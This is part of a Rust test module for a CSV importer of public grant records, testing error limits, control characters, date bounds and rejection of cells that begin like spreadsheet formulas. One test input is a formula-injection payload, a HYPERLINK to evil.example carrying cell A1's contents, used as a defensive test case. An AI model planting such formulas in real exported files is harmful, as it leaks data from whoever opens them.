            ]
        );
    }

    #[test]
    fn errors_stop_at_the_maximum() {
        let bad = row("0", "DI-ESS");
        let text = format!("{}\n{}", header(), vec![bad; MAX_ERRORS + 5].join("\n"));
        let rejection = parse_text(&text).unwrap_err();
        assert_eq!(rejection.errors.len(), MAX_ERRORS);
        assert!(rejection.truncated);
    }

    /// The row's value of `field`, as [`row`] writes it (before CSV quoting).
    fn value_in_row(field: &str) -> String {
        let text = row("10", "DI-ESS");
        let record = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .next()
            .unwrap()
            .unwrap();
        record[FIELDS.iter().position(|f| *f == field).unwrap()].to_string()
    }

    /// [`row`] with `field` set to `value` (CSV-quoted).
    fn row_with(field: &str, value: &str) -> String {
        let text = row("10", "DI-ESS");
        let mut record: Vec<String> = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .next()
            .unwrap()
            .unwrap()
            .iter()
            .map(str::to_string)
            .collect();
        record[FIELDS.iter().position(|f| *f == field).unwrap()] = value.to_string();
        let mut writer = csv::WriterBuilder::new().from_writer(Vec::new());
        writer.write_record(&record).unwrap();
        String::from_utf8(writer.into_inner().unwrap()).unwrap().trim_end().to_string()
    }

    #[test]
    fn a_control_character_in_any_field_is_that_fields_only_error() {
        for control in ['\u{0}', '\u{1b}', '\u{7f}', '\u{9b}'] {
            let rows: Vec<String> =
                FIELDS.iter().map(|f| row_with(f, &format!("{}{control}", value_in_row(f)))).collect();
            let errors = errors_of(&format!("{}\n{}\n", header(), rows.join("\n")));
            let expected: Vec<(u64, String, String)> = FIELDS
                .iter()
                .enumerate()
                .map(|(i, f)| (i as u64 + 2, f.to_string(), "control_character".to_string()))
                .collect();
            assert_eq!(errors, expected, "U+{:04X}", u32::from(control));
        }
        // Tabs and line breaks within a cell are white space, collapsed into one space.
        let grants =
            parse_text(&format!("{}\n{}\n", header(), row_with("objet", "Rénovation\tde\nl'atelier")))
                .expect("valid");
        assert_eq!(grants[0].object, "Rénovation de l'atelier");
    }

    #[test]
    fn dates_are_bounded_like_the_apis() {
        let date = |on: &str| row_with("dateConvention", on);
        let period = |p: &str| row_with("datesPeriodeVersement", p);
        let text = [
            date("0001-01-01"),
            date("1999-12-31"),
            period("1999-12-31"),
            period("2021-09-01/2101-01-01"),
            period("2021-09-01/2021-08-31"),
            period("0001-01-01/9999-12-31"),
        ]
        .join("\n");
        let errors = errors_of(&format!("{}\n{text}\n", header()));
        assert_eq!(
            errors,
            [
                (2, "dateConvention"),
                (3, "dateConvention"),
                (4, "datesPeriodeVersement"),
                (5, "datesPeriodeVersement"),
                (6, "datesPeriodeVersement"),
                // One error a field.
                (7, "datesPeriodeVersement"),
            ]
            .map(|(line, field)| (line, field.to_string(), "out_of_range".to_string()))
        );
        let rejection = parse_text(&format!("{}\n{}\n", header(), date("0001-01-01"))).unwrap_err();
        assert_eq!(
            rejection.errors[0].message.in_(Lang::En),
            "dateConvention must be between 2000-01-01 and 2026-11-22"
        );
        // The bounds themselves.
        let edges =
            [date("2000-01-01"), date("2026-11-22"), period("2000-01-01/2100-12-31"), period("2100-12-31")];
        let grants = parse_text(&format!("{}\n{}\n", header(), edges.join("\n"))).expect("valid");
        assert_eq!(grants[0].decided_on, NaiveDate::from_ymd_opt(2000, 1, 1).unwrap());
        assert_eq!(grants[2].published.payment_period, "2000-01-01/2100-12-31");
    }

    #[test]
    fn republished_texts_may_not_start_like_a_formula() {
        let text = [
            row_with("referenceDecision", "=1+2"),
            row_with("nomBeneficiaire", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")"),
            row_with("objet", "+SUM(A1)"),
            row_with("conditionsVersement", "-1"),
            row_with("idRAE", "@A1"),
            row_with("objet", " \t =A1"),
        ]
        .join("\n");
        let errors = errors_of(&format!("{}\n{text}\n", header()));
        let formula = |line: u64, field: &str| (line, field.to_string(), "formula_prefix".to_string());
        assert_eq!(
            errors,
            [
                formula(2, "referenceDecision"),
                formula(3, "nomBeneficiaire"),
                formula(4, "objet"),
                formula(5, "conditionsVersement"),
                formula(6, "idRAE"),
                formula(7, "objet"),
            ]
        );
        // Further on, or in a field Essor does not republish, these characters are text.
        let fine = [
            row_with("objet", "2e tranche - travaux = 50 %"),
            row_with("nomBeneficiaire", "3F @ Rouen"),
            row_with("nomAttribuant", "-Rouen"),
        ];
        assert_eq!(parse_text(&format!("{}\n{}\n", header(), fine.join("\n"))).expect("valid").len(), 3);
    }
}
